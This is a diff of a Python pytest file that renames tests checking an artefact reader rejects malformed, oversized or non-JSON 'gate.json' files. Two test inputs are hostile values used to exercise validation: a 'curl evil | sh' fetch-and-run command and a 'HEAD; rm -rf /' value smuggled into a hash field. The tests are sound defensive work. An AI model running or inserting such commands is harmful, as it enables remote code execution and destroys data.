@@ -133,10 +133,10 @@ def _changed(change: dict[str, Any], row: dict[str, Any] | None = None) -> dict[
 
 
 @pytest.mark.parametrize(
-    ("data", "said"),
+    ("data", "message"),
     [
-        ([], "the whole"),
-        (_changed({"run": "curl evil | sh"}), "a key that the schema does not have"),
+        ([], "the file"),
+        (_changed({"run": "curl evil | sh"}), "unknown key"),
         (_changed({"schema_version": 2}), "schema_version"),
         (_changed({"schema_version": "1"}), "schema_version"),
         (_changed({"head": {"hash": "HEAD; rm -rf /"}}), "head.hash"),
@@ -165,45 +165,45 @@ def _changed(change: dict[str, Any], row: dict[str, Any] | None = None) -> dict[
         (_changed({}, {"estimate": {"change": 0.1}}), "rows.0.estimate"),
     ],
 )
-def test_what_no_gate_writes_is_refused_by_name(data: Any, said: str, tmp_path: Path) -> None:
+def test_invalid_artefacts_are_refused_with_the_field(data: Any, message: str, tmp_path: Path) -> None:
     file = tmp_path / "gate.json"
     file.write_text(json.dumps(data))
-    with pytest.raises(ArtefactError, match="no artefact") as refused:
+    with pytest.raises(ArtefactError, match="not an artefact") as refused:
         read_artefact(file)
-    assert said in str(refused.value)
+    assert message in str(refused.value)
     assert "evil" not in str(refused.value)
 
 
 @pytest.mark.parametrize("text", [b"", b"{", b"\xff\xfe", b'{"machine": "\\ud800"}', b"[" * 100_000])
-def test_what_is_not_json_is_refused(text: bytes, tmp_path: Path) -> None:
+def test_a_file_that_is_not_json_is_refused(text: bytes, tmp_path: Path) -> None:
     (tmp_path / "gate.json").write_bytes(text)
     with pytest.raises(ArtefactError):
         read_artefact(tmp_path / "gate.json")
 
 
-def test_a_file_that_is_too_large_is_not_read_to_its_end(tmp_path: Path) -> None:
+def test_a_file_that_is_too_large_is_not_read_completely(tmp_path: Path) -> None:
     with (tmp_path / "gate.json").open("wb") as file:
         file.truncate(100 * LARGEST_FILE)  # a hole
     with pytest.raises(ArtefactError, match="larger than 8 MiB"):
         read_artefact(tmp_path / "gate.json")
 
 
-def test_what_is_written_is_never_too_large_to_be_read(tmp_path: Path) -> None:
-    """A row that says nothing but long words, thousands of times."""
+def test_a_written_artefact_is_never_too_large(tmp_path: Path) -> None:
+    """Thousands of unimportant rows with long texts."""
     quiet = QUIET.rows[0].model_copy(update={"reason": "é" * 1000})
     series = (quiet.series.model_copy(update={"key": f"{n:016x}", "environment": "e" * 1000}) for n in range(2, 5001))
     rows = (FULL.rows[0], *(quiet.model_copy(update={"series": each}) for each in series))
     write_artefact(FULL.model_copy(update={"rows": rows}), tmp_path / "gate.json")
-    told = read_artefact(tmp_path / "gate.json")
-    assert told.rows[0].verdict is Verdict.REGRESSED
-    assert len(told.rows) + told.rows_left_out == 5000
-    assert told.rows_left_out > 0
+    artefact = read_artefact(tmp_path / "gate.json")
+    assert artefact.rows[0].verdict is Verdict.REGRESSED
+    assert len(artefact.rows) + artefact.rows_left_out == 5000
+    assert artefact.rows_left_out > 0
 
 
 @given(st.text(max_size=300), st.integers(1, 250))
-def test_any_text_can_be_written_so_that_it_may_be_read(text: str, most: int) -> None:
-    told = plain(text, most)
-    assert len(told) <= most
-    assert not has_hidden(told)
+def test_plain_texts_are_valid_and_bounded(text: str, most: int) -> None:
+    cleaned = plain(text, most)
+    assert len(cleaned) <= most
+    assert not has_hidden(cleaned)
     if not has_hidden(text) and len(text) <= most:
-        assert told == text
+        assert cleaned == text
